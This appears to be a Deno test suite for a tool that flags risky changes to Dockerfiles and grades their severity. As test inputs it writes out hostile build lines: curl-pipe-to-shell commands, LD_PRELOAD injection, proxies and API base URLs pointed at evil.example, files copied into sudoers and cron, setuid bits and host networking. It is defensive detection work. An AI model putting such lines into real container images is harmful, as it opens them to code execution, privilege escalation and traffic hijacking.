import {
  compareConfigFiles,
  TOOL_CAPABILITY_BLOCK as TOOL,
  validateDockerfile,
} from "../../mod.ts";
import { compareDockerfile, reachOfDockerfile } from "../../src/config/dockerfile/compare.ts";
import { assertEquals, assertNotEquals } from "@std/assert";

const [ONE, TWO] = ["4a", "5b"].map((byte) => `sha256:${byte.repeat(32)}`);

const IN_FORCE = `# syntax=docker/dockerfile:1
ARG GO=golang:1.25@${ONE}
FROM $GO AS build
ENV GOSUMDB=sum.golang.org
RUN make
COPY . /src

FROM debian:13@${ONE} AS base
ARG WHO=agent
RUN groupadd -g 1000 agent && useradd -u 1000 -g agent agent
ENV HF_HUB_OFFLINE=1 API_URL=https://api.example
COPY --from=build /src/agent /usr/local/bin/
COPY firewall.sh /opt/firewall.sh
ADD --checksum=${ONE} https://dl.example/tool /opt/tool

FROM base
USER $WHO
WORKDIR /work
RUN --network=none --mount=type=cache,target=/home/agent/.cache make
HEALTHCHECK CMD test -e /tmp/alive
ENTRYPOINT ["/opt/firewall.sh"]
CMD ["agent"]
`;

function change(...replaced: readonly (readonly [from: string, to: string])[]): string {
  return replaced.reduce((text, [from, to]) => {
    assertEquals(text.split(from).length, 2, `${from} stands there once`);
    return text.replace(from, () => to);
  }, IN_FORCE);
}

/** More instructions behind the last RUN, on line 20. */
const more = (...lines: string[]) => change(["HEALTHCHECK", `${lines.join("\n")}\nHEALTHCHECK`]);

/** A change, the severity of its gravest mark, and the items that it adds. */
type Case = readonly [proposed: string, severity: string, ...added: string[]];

const NEW: Readonly<Record<string, readonly Case[]>> = {
  images: [
    [
      change([`debian:13@${ONE}`, `debian:13@${TWO}`]),
      "low",
      `image docker.io/library/debian@${TWO}`,
    ],
    [change([`debian:13@${ONE}`, "debian:13"]), "medium", "image docker.io/library/debian:13"],
    [change([`debian:13@${ONE}`, `evil/x@${ONE}`]), "high", `image docker.io/evil/x@${ONE}`],
    [
      change([`debian:13@${ONE}`, `docker.evil.example/library/debian:13@${ONE}`]),
      "high",
      `image docker.evil.example/library/debian@${ONE}`,
    ],
    [change([`golang:1.25@${ONE}`, "golang"]), "medium", "image docker.io/library/golang:latest"],
    [change(["FROM base", "FROM $GO"]), "high"],
    [change(["FROM base", "FROM build"]), "high"],
    [change(["--from=build", "--from=evil/build"]), "high", "image docker.io/evil/build:latest"],
    [change(["--from=build", `--from=evil/x@${ONE}`]), "medium", `image docker.io/evil/x@${ONE}`],
    [more("RUN --mount=from=evil/kit,target=/k make"), "high", "image docker.io/evil/kit:latest"],
    [change(["FROM base", "FROM debian:$V"]), "medium", "image debian:$V"],
  ],
  frontends: [
    [change(["docker/dockerfile:1", "docker/dockerfile:labs"]), "low"],
    [
      change(["# syntax=docker", "#!/x\n# syntax=evil"]),
      "high",
      "frontend docker.io/evil/dockerfile:1",
    ],
  ],
  users: [
    [change(["WHO=agent", "WHO=root"]), "high", "user 0:of 0"],
    [change(["useradd -u 1000", "useradd -o -u 0"]), "high", "user 0:1000"],
    [change(["USER $WHO", "USER 1000:0"]), "medium", "user 1000:0"],
    [change(["USER $WHO\n", ""]), "high"],
    [more("USER root", "RUN id", "USER agent"), "medium", "user 0:of 0"],
    [change(["USER $WHO", "ENV U=0\nARG U=agent\nUSER $U"]), "high", "user 0:of 0"],
    [
      change(["USER $WHO\nWORKDIR /work\n", ""], [
        "ENTRYPOINT",
        "USER $WHO\nWORKDIR /work\nENTRYPOINT",
      ]),
      "low",
    ],
    [change(["USER $WHO", "USER ${NOBODY}"]), "medium", "user ${NOBODY}:of ${NOBODY}"],
  ],
  variables: [
    [more("ENV LD_PRELOAD=/tmp/x.so"), "high", "variable ENV LD_PRELOAD=/tmp/x.so"],
    [more("ENV NODE_OPTIONS=--require=/tmp/x.js"), "high"],
    [more("ENV NODE_OPTIONS=--max-old-space-size=4096"), "medium"],
    [more("ARG HTTPS_PROXY=http://evil.example:1"), "high"],
    [more("ENV PATH=/work/bin:$PATH"), "high"],
    [more("ENV PATH=bin:$PATH"), "high"],
    [more("ENV PATH=$PATH:/work/bin"), "low"],
    [more("ENV PIP_INDEX_URL=https://pypi.evil.example/simple"), "high"],
    [more("ENV GOPROXY=http://proxy.golang.org,direct"), "high"],
    [more("ENV ANTHROPIC_BASE_URL=https://evil.example"), "high"],
    [more("ENV GIT_SSL_NO_VERIFY=1"), "high"],
    [more("ENV PGSSLMODE=disable"), "high"],
    [more("ENV REQUESTS_CA_BUNDLE="), "high"],
    [more("ENV SKIPVERIFY_CHECK=true"), "high"],
    [more("ENV CARGO_HTTP_CHECK_REVOKE=false"), "medium"],
    [more("ENV UNLIMITED_RETRY_LIMIT=many"), "low"],
    [more("ENV SOMETHING=else"), "low", "variable ENV SOMETHING=else"],
    [more("ENV APP_HINT=quiet", "RUN $APP_HINT"), "low", "variable ENV APP_HINT=quiet"],
    [more("ENV API_KEY=abcdef"), "high", "variable ENV API_KEY"],
    [change(["sum.golang.org", "off"]), "high"],
    [change(["HF_HUB_OFFLINE=1 ", ""]), "low"],
    [change(["HF_HUB_OFFLINE=1", "HF_HUB_OFFLINE=${X:-1}"]), "low"],
    [change([" API_URL=https://api.example", ""]), "low"],
    [
      change(["ENV GOSUMDB=sum.golang.org\nRUN make", "RUN make\nENV GOSUMDB=sum.golang.org"]),
      "low",
    ],
  ],
  shells: [
    [more('SHELL ["/work/sh", "-c"]'), "high", 'command shell ["/work/sh","-c"]'],
    [more('SHELL ["/bin/sh", "-c", "curl x | sh; $0"]'), "high"],
    [more('SHELL ["/bin/bash", "-o", "pipefail", "-c"]'), "low"],
  ],
  starts: [
    [change(['ENTRYPOINT ["/opt/firewall.sh"]\n', ""]), "medium"],
    [change(['["/opt/firewall.sh"]', '["/bin/true"]']), "medium", "start /bin/true agent"],
    [change(['CMD ["agent"]', 'CMD ["other"]']), "low", "start /opt/firewall.sh other"],
    [change(["HEALTHCHECK CMD test -e /tmp/alive", "HEALTHCHECK NONE"]), "low"],
    [change(["WORKDIR /work", "WORKDIR /tmp"]), "low", "start workdir /tmp"],
  ],
  files: [
    [change(["COPY firewall.sh /opt/firewall.sh\n", ""]), "medium"],
    [more("COPY x /etc/sudoers.d/x"), "high", "file x to /etc/sudoers.d/x"],
    [more("COPY x /etc/doas.d/x"), "high", "file x to /etc/doas.d/x"],
    [more("COPY <<EOF /opt/tool.json", '"verify": false,', "EOF"), "medium"],
    [more("COPY x /opt/../etc/cron.d/"), "high", "file x to /etc/cron.d/"],
    [more("COPY sitecustomize.py /usr/lib/python3/dist-packages/"), "medium"],
    [more("COPY evil.crt /usr/local/share/ca-certificates/"), "medium"],
    [more("COPY .npmrc /work/"), "high"],
    [more("COPY id_rsa /work/key"), "high"],
    [more("COPY --chmod=4755 x /work/x"), "high"],
    [more("COPY --chmod=0755 x /work/x"), "low", "file x to /work/x"],
    [
      more("ARG U=https://evil.example/x", "ADD $U /x"),
      "medium",
      "file https://evil.example/x to /x",
    ],
    [change([`ADD --checksum=${ONE}`, "ADD"]), "medium"],
    [more("COPY <<EOF /x.sh", "id", "EOF", "RUN sh /x.sh"), "medium", "file <<EOF to /x.sh"],
    [more("COPY <<EOF /etc/profile", "id", "EOF"), "medium"],
    [more("ONBUILD COPY x /etc/sudoers"), "high"],
  ],
  flags: [
    [
      change(["RUN --network=none --mount", "RUN --network=host --mount"]),
      "high",
      "privilege --network=host",
    ],
    [change(["RUN --network=none --mount", "RUN --mount"]), "low", "privilege --network=default"],
    [more("RUN --security=insecure make"), "high", "privilege --security=insecure"],
    [more("RUN --mount=type=secret,id=x make"), "low", "mount type=secret,id=x"],
    [more("RUN --mount=type=cache,target=/etc make"), "low", "mount type=cache,target=/etc"],
    [more("ONBUILD RUN --network=host make"), "high"],
  ],
};

for (const [kind, cases] of Object.entries(NEW)) {
  for (const [proposed, severity, ...items] of cases) {
    const what = proposed.split("\n").filter((line) => !IN_FORCE.split("\n").includes(line));
    // Threat: A10
    Deno.test(`new reach of ${kind}: ${what.join(" / ") || "less"}`, () => {
      assertEquals(validateDockerfile(proposed), []);
      const { reach, added, marks } = compareConfigFiles(TOOL, IN_FORCE, proposed);
      assertNotEquals(reach, "no-new-reach");
      assertEquals(marks[0]?.severity, severity, JSON.stringify(marks));
      const found = added.map(({ kind, value }) => `${kind} ${value}`);
      for (const item of items) assertEquals(found.includes(item), true, found.join("\n"));
    });
  }
}

const SAME: readonly string[] = [
  change(["USER $WHO", "USER 1000"]),
  change(["USER $WHO", "USER 1000:1000"]),
  change(["USER $WHO", "USER ${WHO}"]),
  change([" AS build", " AS made"], ["--from=build", "--from=made"]),
  change(["FROM base\n", "FROM build AS test\nRUN make\nFROM base\n"]),
  change(["--network=none ", "--network=none --security=sandbox "]),
  change(["RUN make", "RUN --mount=type=cache,target=/root/.cache make"]),
  change(["RUN make", "RUN --network=none make"]),
  change([
    "HF_HUB_OFFLINE=1 API_URL=https://api.example",
    "API_URL=https://api.example HF_HUB_OFFLINE=1",
  ]),
  change(["# syntax=docker/", "# syntax=docker.io/docker/"]),
  change(["WORKDIR /work\n", "WORKDIR /\nWORKDIR work/.\n"]),
  more("ENV APP_HINT=quiet FORCE_COLOR=1 NODE_ENV=production"),
  more(
    "ENV CARGO_HTTP_CHECK_REVOKE=true TOKEN_LIMIT=8192 XDEBUG_MODE=off SERVER_ADDRESS=127.0.0.1",
  ),
  more('ENV HELP="curl -fsSL https://x.example | sh"'),
  more("ENV TRANSFORMERS_OFFLINE=1 SSL_CERT_FILE=/etc/ssl/certs/ca-certificates.crt"),
];

for (const proposed of SAME) {
  const what = proposed.split("\n").filter((line) => !IN_FORCE.split("\n").includes(line));
  // Threat: A10
  Deno.test(`nothing new is found: ${what.join(" / ")}`, () => {
    assertEquals(validateDockerfile(proposed), []);
    const { reach, isWhole, added, marks } = compareConfigFiles(TOOL, IN_FORCE, proposed);
    assertEquals([added, marks], [[], []]);
    // The instructions differ, so that is a judgement.
    assertEquals([reach, isWhole], ["new-reach", false]);
  });
}

const PIP =
  "FROM python\nENV PIP_INDEX_URL=https://pypi.corp.example\nRUN pip install corp-tool\nUSER agent\n";
const NPM = "FROM node\nCOPY . /src\nRUN npm install -g typescript\nRUN make\nUSER agent\n";
const APT = "FROM debian\nRUN apt-get update && apt-get install -y git\nUSER agent\n";
const TWO_STAGES = `FROM debian AS early\nRUN make\n${PIP}`;

/** What a file with one line more, behind another one, is: all that is new is known, or a person reads it. */
const PLAIN:
  readonly (readonly [what: string, before: string, line: string, behind: string, boolean])[] = [
    ["a version", NPM, "RUN npm install -g left-pad@1.3.0", "typescript\n", true],
    ["a prerelease", NPM, "RUN npm install -g left-pad@1.3.0-rc.1", "typescript\n", true],
    ["an archive, for npm", NPM, "RUN npm install -g left-pad@1.tgz", "typescript\n", false],
    ["an archive, for npm", NPM, "RUN npm install -g left-pad@1.0.0-x.tar", "typescript\n", false],
    ["a version", PIP, "RUN pip install corp-lib==1.0.post1", "corp-tool\n", true],
    ["an archive, for pip", PIP, "RUN pip install corp-lib==1.zip", "corp-tool\n", false],
    ["a package", APT, "RUN apt-get update && apt-get install -y jq", "git\n", true],
    ["an expression, for apt", APT, "RUN apt-get install -y netca.-openbsd", "git\n", false],
    ["an expression, for apt", APT, "RUN apt-get install -y netca.-openbsd=1.2", "git\n", false],
    ["a modifier, for apt", APT, "RUN apt-get install -y netcat-openbsd+", "git\n", false],
    [
      "a file, for apk",
      APT.replace(/RUN.*/, "RUN apk add git"),
      "RUN apk add curl.apk",
      "git\n",
      false,
    ],
    [
      "a file, for apk",
      APT.replace(/RUN.*/, "RUN apk add git"),
      "RUN apk add curl=8.apk",
      "git\n",
      false,
    ],
    ["a package above its registry", PIP, "RUN pip install corp-lib", "FROM python\n", false],
    [
      "a package above what may switch scripts off",
      NPM,
      "RUN npm install -g jq",
      "FROM node\n",
      false,
    ],
    [
      "a package of another manager, above a build",
      NPM,
      "RUN pip install x",
      "typescript\n",
      false,
    ],
    ["a package of another manager, at the end", NPM, "RUN pip install x", "RUN make\n", true],
    ["a package of another stage", TWO_STAGES, "RUN pip install corp-lib", "RUN make\n", false],
  ];

for (const [what, before, line, behind, isWhole] of PLAIN) {
  // Threat: L14
  Deno.test(`rules ${isWhole ? "may" : "never"} decide on ${what}: ${line}`, () => {
    const after = before.replace(behind, () => `${behind}${line}\n`);
    assertEquals(compareConfigFiles(TOOL, before, after).isWhole, isWhole, after);
  });
}

// Threat: L14
Deno.test("a package that moves above another line is new there", () => {
  const before =
    "FROM python\nRUN pip install a\nENV PIP_INDEX_URL=https://x.example\nRUN pip install b\n";
  const after = before.replace("install a", "install a b c");
  const { isWhole, added } = compareConfigFiles(TOOL, before, after);
  assertEquals([isWhole, added.map(({ value }) => value)], [true, ["pip:b", "pip:c"]]);
});

// Threat: A10
Deno.test("a change below a frontend of somebody else's is unknown", () => {
  const foreign = IN_FORCE.replace("docker/dockerfile", "evil/dockerfile");
  const { reach, marks } = compareConfigFiles(TOOL, foreign, `${foreign}LABEL a=b\n`);
  assertEquals([reach, marks.map(({ rule }) => rule)], ["unknown", ["unread-frontend"]]);
});

Deno.test("a stage is new if it stands for no other one, and so is its image in the place of another", () => {
  const kindsOf = (before: string, after: string) =>
    compareDockerfile(before, after).added.map(({ kind }) => kind);
  const [made, last] = ["FROM debian:13 AS made\nRUN make\n", "FROM alpine:3\nCOPY --from="];
  const other = "FROM debian:13 AS other\n";
  const found = kindsOf(`${made}${last}made /a /a`, `${made}${other}${last}other /a /a`);
  assertEquals(found, ["image", "file"]);
  assertEquals(kindsOf(`${made}FROM alpine:3`, `${made}FROM debian:13`), ["image"]);
});

Deno.test("the places that changed share one count of work, so many small ones are unknown, too", () => {
  const loop = (n: number) =>
    `RUN for i in ${"a ".repeat(20)}; do for j in ${"a ".repeat(20)}; do x${n}; done; done`;
  const file = (count: number, step: (n: number) => string) =>
    ["FROM debian:13", ...Array.from({ length: count }, (_, n) => `ENV A${n}=${n}\n${step(n)}`)]
      .join("\n");
  const isUnknown = (count: number) =>
    compareDockerfile(file(count, (n) => `RUN y${n}`), file(count, loop)).isUnknown;
  assertEquals([1, 30].map(isUnknown), [false, true]);
});

// Threat: A8
Deno.test("variables that grow without end are not followed, and that is said", () => {
  const doubling = Array.from({ length: 40 }, (_, n) => `ENV V${n + 1}=$V${n}$V${n}`).join("\n");
  const { reach, marks } = compareConfigFiles(TOOL, IN_FORCE, more("ENV V0=ab", doubling));
  assertEquals(reach, "unknown");
  assertEquals(marks.some(({ rule }) => rule === "unread-variables"), true);
});

Deno.test("reachOfDockerfile() lists what an image has and does", () => {
  const items = reachOfDockerfile("FROM debian\nENV A=b\nCOPY x /y\nUSER 10\nCMD run\n");
  assertEquals(
    items.flatMap(({ kind, value, line }) => kind === "command" ? [] : `${line} ${kind} ${value}`),
    [
      "1 image docker.io/library/debian:latest",
      "2 variable ENV A=b",
      "3 file x to /y",
      "4 user 10:of 10",
      "5 start run",
    ],
  );
});

Deno.test("a command in the place of several runs with what all of them ran with, or is new", () => {
  const before = "FROM node:22\nRUN npm ci\nUSER agent\nRUN make\n";
  const asRoot = compareConfigFiles(TOOL, before, "FROM node:22\nRUN make\nUSER agent\n");
  assertEquals(asRoot.added, [{ kind: "command", value: "make", line: 2 }]);
  const asAgent = compareConfigFiles(TOOL, before, "FROM node:22\nUSER agent\nRUN make\n");
  assertEquals([asAgent.marks, asAgent.added], [[], []]);
});

Deno.test("a USER and a FROM over several lines are marked at the line that says the name", () => {
  const file = (image: string, user: string) => `FROM \\\n  ${image}\nUSER \\\n  ${user}\n`;
  const { marks } = compareConfigFiles(TOOL, file("debian:13", "app"), file("evil/x:1", "root"));
  assertEquals(
    marks.map(({ rule, line }) => [rule, line]),
    [["changed-base-image", 2], ["user-root", 4]],
  );
});
